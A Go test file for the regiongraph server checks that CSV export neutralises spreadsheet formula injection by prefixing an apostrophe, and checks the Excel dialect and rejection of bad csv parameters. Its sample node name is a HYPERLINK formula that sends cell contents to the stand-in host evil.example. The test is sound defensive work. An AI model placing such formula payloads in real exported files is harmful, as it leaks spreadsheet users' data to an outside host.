package server_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	rg "github.com/regiongraph/regiongraph"
	"github.com/regiongraph/regiongraph/server"
	"github.com/regiongraph/regiongraph/storetest"
)

// TestCSVExportNeutralisesFormulas (issue 12): a name like
// =HYPERLINK("http://…") reaches /export/nodes.csv as text (a leading
// apostrophe), not as a formula a spreadsheet would run; csv=excel gives
// the Norwegian Excel dialect; csv is refused on other formats and for an
// unknown dialect.
func TestCSVExportNeutralisesFormulas(t *testing.T) {
	store := newStallStore(t).Store // the bundled dataset itself, nothing stalled
	evil := storetest.Partner("partner-evil")
	evil.Name = `=HYPERLINK("http://evil.example/?q="&A1,"Klikk")`
	evil.Description = "@SUM(1+1)"
	storetest.MustApply(t, store, rg.Change{Op: rg.OpCreateNode, Node: evil})
	h := server.New(store, server.Config{})
	get := func(path string) (int, []byte) {
		rec := do(h, http.MethodGet, path, nil)
		return rec.Code, rec.Body.Bytes()
	}
	for _, c := range []struct {
		path  string
		comma rune
		bom   bool
	}{{"/export/nodes.csv?kind=Partner", ',', false}, {"/export/nodes.csv?kind=Partner&csv=excel", ';', true}} {
		status, b := get(c.path)
		if status != http.StatusOK {
			t.Fatalf("%s: %d %s", c.path, status, b)
		}
		if bytes.HasPrefix(b, []byte("\uFEFF")) != c.bom {
			t.Errorf("%s: BOM %v, want %v", c.path, !c.bom, c.bom)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF"))))
		r.Comma = c.comma
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", c.path, err)
		}
		found := false
		for _, row := range rows[1:] {
			if row[0] != "partner-evil" {
				continue
			}
			found = true
			if row[1] != "'"+evil.Name || !strings.Contains(strings.Join(row, "|"), "'@SUM(1+1)") {
				t.Errorf("%s: the hostile node's row %q", c.path, row)
			}
		}
		if !found {
			t.Errorf("%s: no row for the hostile node", c.path)
		}
	}
	for _, path := range []string{"/export/graphml?csv=excel", "/export/nodes.csv?csv=tsv"} {
		if status, b := get(path); status != http.StatusBadRequest || !bytes.Contains(b, []byte(`"field":"csv"`)) {
			t.Errorf("%s: %d %s, want 400 on the field csv", path, status, b)
		}
	}
}
